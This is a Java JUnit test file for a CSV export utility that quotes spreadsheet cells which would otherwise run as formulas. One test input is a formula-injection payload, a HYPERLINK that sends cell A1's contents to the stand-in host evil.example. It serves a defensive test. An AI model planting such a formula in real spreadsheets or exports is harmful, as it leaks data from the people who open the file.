package org.liaison.platform;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1 555 010 1234", "-2+3",
        "@SUM(A1:A9)", "\tcmd", "\r=1"})
    void cellsThatASpreadsheetWouldRunAreExportedAsText(String value) {
        String cell = CsvCells.neutralised(value);
        assertEquals("'" + value, cell);
        assertEquals(value, CsvCells.restored(cell), "importing the export gives the value back");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Riverton Police Department", "555-010-1234", "O'Brien", "'quoted by the user", "a=b"})
    void ordinaryCellsAreLeftAlone(String value) {
        assertEquals(value, CsvCells.neutralised(value));
        assertEquals(value, CsvCells.restored(value));
    }

    @org.junit.jupiter.api.Test
    void emptyCellsStayEmpty() {
        assertNull(CsvCells.neutralised(null));
        assertEquals("", CsvCells.neutralised(""));
    }
}
